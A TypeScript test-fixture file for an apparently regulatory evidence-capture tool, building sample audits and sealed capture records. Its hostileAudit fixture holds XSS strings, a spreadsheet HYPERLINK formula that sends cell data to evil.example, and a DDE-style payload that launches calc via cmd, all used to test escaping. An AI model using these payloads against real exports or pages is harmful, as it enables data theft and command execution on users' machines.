import { readFileSync } from 'node:fs';
import type { AuditResult } from '@/rules/types';
import { sha256Hex } from '@/evidence/seal/digest';
import { auditDigest, EVIDENCE_SCHEMA, nextLink, sealRecord, type ArtefactEntry, type ChainHead, type CaseFields } from '@/evidence/seal/record';
import type { CapturedEvidence } from '@/evidence/export/source';
import { buildBundleBlob } from '@/evidence/export/bundle';

export function sampleAudit(): AuditResult {
  return JSON.parse(readFileSync('tests/fixtures/audits/platform-home.json', 'utf8')) as AuditResult;
}

export const HOSTILE_TEXT = '<img src=x onerror=alert(1)>';
export const HOSTILE_FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击领取")';

/** The sample audit with page text an attacker controls in every place a page can reach. */
export function hostileAudit(): AuditResult {
  const audit = sampleAudit();
  audit.title = `${HOSTILE_TEXT}"'</title><script>alert(2)</script>`;
  audit.url = 'https://evil.example/?q=<script>alert(3)</script>&x="y"';
  audit.results[0].evidence[0].text = HOSTILE_TEXT;
  audit.results[0].evidence[0].href = 'javascript:alert(4)';
  audit.results[3].evidence[0].text = HOSTILE_FORMULA;
  audit.results[3].evidence[1].text = '+86 10 1234 5678';
  audit.results[3].evidence[2].text = '@SUM(1+1)*cmd|" /C calc"!A0';
  // An audit stored by an older version: a key this version does not have, and the message it rendered then.
  Object.assign(audit.results[4], { messageKey: 'rule_from_an_older_version', message: '-2+3 "quoted", comma\nnew line' });
  return audit;
}

/** A PNG signature followed by bytes: enough to be a distinct artefact. */
export const PNG_BYTES = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 1, 2, 3, 4, 5]);
export const MHTML_BYTES = new TextEncoder().encode('From: <Saved by Blink>\r\nSubject: 示例商城\r\nMIME-Version: 1.0\r\n\r\n<html>…</html>');

export const CASE: CaseFields = { caseNumber: '京市监网〔2026〕12号', inspector: '王检查', task: '双十一网店专项检查' };

/** The start of a PNG of `width` × `height` pixels: its signature and IHDR, all a report reads of it. */
export function pngOf(width: number, height: number, fill = 0): Uint8Array {
  const bytes = new Uint8Array(33 + 16).fill(fill);
  bytes.set([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52]);
  const view = new DataView(bytes.buffer);
  view.setUint32(16, width);
  view.setUint32(20, height);
  return bytes;
}

/** The window of a capture with a full page: 800 × 600 CSS px at twice the pixels, scrolled down 1,000 px. */
export const VIEWPORT = { scrollX: 0, scrollY: 1000, width: 800, height: 600, devicePixelRatio: 2 };

export interface CaptureOptions {
  /** As the capture of an older version wrote it: no full page, no viewport, no element boxes. */
  schema?: 'liangzhao.evidence/1';
  /** Element boxes by selector, in CSS px of the page, for evidence-html.json. */
  rects?: Record<string, { x: number; y: number; width: number; height: number }>;
  /** The page's height; the full page holds up to 3,000 CSS px of it. */
  pageHeight?: number;
}

/** A capture of `audit` chained after `head`, as the background makes one. */
export async function captureOf(audit: AuditResult, head: ChainHead | null, caseFields = CASE, options: CaptureOptions = {}): Promise<CapturedEvidence> {
  const current = options.schema === undefined;
  const pageHeight = options.pageHeight ?? 2500;
  const capturedHeight = Math.min(pageHeight, 3000);
  const files: Array<[ArtefactEntry['kind'], string, string, Uint8Array]> = [
    ['screenshot', 'screenshot.png', 'image/png', current ? pngOf(1600, 1200) : PNG_BYTES],
    ['mhtml', 'page.mhtml', 'multipart/related', MHTML_BYTES],
  ];
  if (current) {
    files.splice(1, 0, ['fullpage-screenshot', 'fullpage.png', 'image/png', pngOf(1600, capturedHeight * 2, 7)]);
    const elements = Object.entries(options.rects ?? {}).map(([selector, rect]) => ({ selector, html: '<a></a>', truncated: false, rect, ruleIds: [] }));
    files.push(['element-html', 'evidence-html.json', 'application/json', new TextEncoder().encode(JSON.stringify({ url: audit.url, elements }))]);
  }
  const artefacts = await Promise.all(
    files.map(async ([kind, name, mediaType, bytes]) => ({
      entry: { kind, name, mediaType, size: bytes.length, sha256: await sha256Hex(bytes) },
      bytes,
    })),
  );
  const sealed = await sealRecord({
    schema: options.schema ?? EVIDENCE_SCHEMA,
    ...nextLink(head, () => 'chain-test-1'),
    capturedAt: '2026-11-28T20:58:00.000+08:00',
    url: audit.url,
    title: audit.title,
    userAgent: 'Mozilla/5.0 (X11; Linux x86_64) Chrome/131.0 Safari/537.36',
    extensionVersion: '0.1.0',
    rulesetVersion: audit.rulesetVersion,
    caseFields,
    auditSha256: await auditDigest(audit),
    artefacts: artefacts.map((a) => a.entry),
    absent: [],
    ...(current
      ? {
          viewport: VIEWPORT,
          fullPage: { pageHeight, capturedHeight, cut: pageHeight > capturedHeight, frames: Math.ceil(capturedHeight / 600), width: 1600, height: capturedHeight * 2 },
        }
      : {}),
  });
  return { sealed, artefacts };
}

export function headOf(capture: CapturedEvidence): ChainHead {
  return { chainId: capture.sealed.record.chainId, sequence: capture.sealed.record.sequence, digest: capture.sealed.digest };
}

/** The bundle's bytes, as a file saved by the dashboard would hold them. */
export async function buildBundle(...args: Parameters<typeof buildBundleBlob>): Promise<Uint8Array> {
  return new Uint8Array(await (await buildBundleBlob(...args)).arrayBuffer());
}
